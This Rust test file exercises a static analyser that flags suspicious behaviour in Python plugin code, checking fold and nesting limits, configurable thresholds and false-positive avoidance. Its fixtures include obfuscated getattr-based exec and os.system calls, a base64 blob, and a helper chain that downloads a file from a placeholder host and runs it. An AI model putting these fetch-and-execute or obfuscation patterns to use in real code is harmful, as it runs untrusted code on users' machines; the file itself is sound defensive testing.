//! The resolver on hostile input: bounded folding, deep nesting, configurable limits.

use validator_behaviour::{analyse_file, BehaviourLimits};
use validator_python::{PythonLimits, PythonModule};

fn rules(source: &str, limits: &BehaviourLimits) -> Vec<&'static str> {
    let module = PythonModule::parse_text(source.to_owned(), &PythonLimits::default());
    let mut ids: Vec<&'static str> = analyse_file("p/work.py", &module, limits)
        .into_iter()
        .map(|h| h.rule.id)
        .collect();
    ids.sort_unstable();
    ids.dedup();
    ids
}

#[test]
fn huge_repetitions_and_joins_are_not_folded_past_the_limit() {
    let limits = BehaviourLimits::default();
    let source =
        "import builtins\nname = 'ex' * 1000000000000\ngetattr(builtins, name + 'ec')('x')\n\
                  big = ''.join(['a'] * 100000000)\n";
    // Nothing is built in memory (the test would run out of memory otherwise) and the
    // unresolved name is not reported as resolved.
    assert!(rules(source, &limits).is_empty());
}

#[test]
fn deeply_nested_expressions_are_walked_without_overflowing_the_stack() {
    let limits = BehaviourLimits::default();
    let source = |depth: usize| {
        format!(
            "import os\nname = {}'system'\ngetattr(os, name)('true')\n",
            "'' + ".repeat(depth)
        )
    };
    assert_eq!(rules(&source(100), &limits), vec!["BHV003"]);
    // Past the fold depth the name is unknown: no finding, no crash.
    let shallow = BehaviourLimits {
        max_fold_depth: 50,
        ..BehaviourLimits::default()
    };
    assert!(rules(&source(100), &shallow).is_empty());
    assert!(rules(&source(900), &limits).is_empty());
}

#[test]
fn limits_are_named_and_configurable() {
    let limits = BehaviourLimits::from_lookup(|key| {
        (key == "PLUGIN_VALIDATOR_BEHAVIOUR_MIN_BLOB_CHARS").then(|| "100000".to_owned())
    })
    .unwrap();
    assert_eq!(limits.min_blob_chars, 100_000);
    let error = BehaviourLimits::from_lookup(|key| {
        (key == "PLUGIN_VALIDATOR_BEHAVIOUR_MAX_FOLDED_BYTES").then(|| "lots".to_owned())
    })
    .unwrap_err();
    assert_eq!(error.name, "max_folded_bytes");
    let blob = "aW1wb3J0IG9zCg==".repeat(40);
    let source = format!("import base64\nDATA = base64.b64decode('{blob}')\n");
    assert_eq!(rules(&source, &BehaviourLimits::default()), vec!["BHV104"]);
    assert!(rules(&source, &limits).is_empty());
}

#[test]
fn a_capability_alone_never_fires() {
    let limits = BehaviourLimits::default();
    for source in [
        "import subprocess\nsubprocess.run(['gdal_translate', 'a', 'b'])\n",
        "import requests\nrequests.post('https://api.example.org', json={})\n",
        "from qgis.core import QgsApplication\np = QgsApplication.qgisAuthDatabaseFilePath()\n",
        "exec(open('script.py').read())\n",
        "import os\nos.chmod('tool', 0o755)\n",
        "import socket\ns = socket.socket()\ns.connect(('localhost', 80))\n",
        "open('/tmp/out.txt', 'w').write('x')\n",
        "import os\nfor k, v in os.environ.items():\n    print(k, v)\n",
    ] {
        assert!(rules(source, &limits).is_empty(), "{source}");
    }
}

#[test]
fn a_path_is_followed_through_helpers_up_to_the_link_depth() {
    // The download is written two helper calls away from where it is started.
    let source = "import subprocess, tempfile, requests\n\
                  def _save(data, path):\n    open(path, 'wb').write(data)\n\
                  def fetch(url, dest):\n    _save(requests.get(url).content, dest)\n\
                  def main():\n    exe = tempfile.mktemp()\n    fetch('https://x.example.invalid', exe)\n    subprocess.call([exe])\n";
    assert_eq!(rules(source, &BehaviourLimits::default()), vec!["BHV002"]);
    let limits = BehaviourLimits::from_lookup(|key| {
        (key == "PLUGIN_VALIDATOR_BEHAVIOUR_MAX_LINK_DEPTH").then(|| "1".to_owned())
    })
    .unwrap();
    assert_eq!(limits.max_link_depth, 1);
    assert!(rules(source, &limits).is_empty());
}
